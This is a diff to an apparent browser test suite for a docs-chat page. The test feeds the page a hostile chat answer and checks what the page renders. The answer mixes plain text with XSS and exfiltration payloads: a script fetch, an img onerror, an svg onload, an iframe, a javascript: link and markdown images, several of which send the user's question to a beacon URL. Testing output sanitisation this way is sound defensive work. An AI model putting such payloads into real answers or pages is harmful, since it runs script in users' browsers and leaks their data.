@@ -389,18 +389,19 @@ describe.skipIf(SKIP)('docs-chat page in Chromium, rendering a hostile answer', 
           .at(-1) ?? '',
       );
       const beam = `${beaconUrl}/collect?q=${question}`;
+      sent = [
+        'Budgets are per user and per day.',
+        `![status](${beam}&via=markdown-image)`,
+        `[the docs](${beam}&via=markdown-link)`,
+        `<img src="${beam}&via=img" onerror="window.__pwned = 'img'">`,
+        `<script>window.__pwned = 'script'; fetch('${beam}&via=script')</script>`,
+        `<iframe src="${beam}&via=iframe"></iframe>`,
+        "[click me](javascript:window.__pwned='javascript-link')",
+        `<svg onload="window.__pwned = 'svg'"><image href="${beam}&via=svg"/></svg>`,
+        'That is all about budgets.',
+      ].join('\n');
       return {
-        text: (sent = [
-          'Budgets are per user and per day.',
-          `![status](${beam}&via=markdown-image)`,
-          `[the docs](${beam}&via=markdown-link)`,
-          `<img src="${beam}&via=img" onerror="window.__pwned = 'img'">`,
-          `<script>window.__pwned = 'script'; fetch('${beam}&via=script')</script>`,
-          `<iframe src="${beam}&via=iframe"></iframe>`,
-          "[click me](javascript:window.__pwned='javascript-link')",
-          `<svg onload="window.__pwned = 'svg'"><image href="${beam}&via=svg"/></svg>`,
-          'That is all about budgets.',
-        ].join('\n')),
+        text: sent,
       };
     });
     app = await startTestApp({
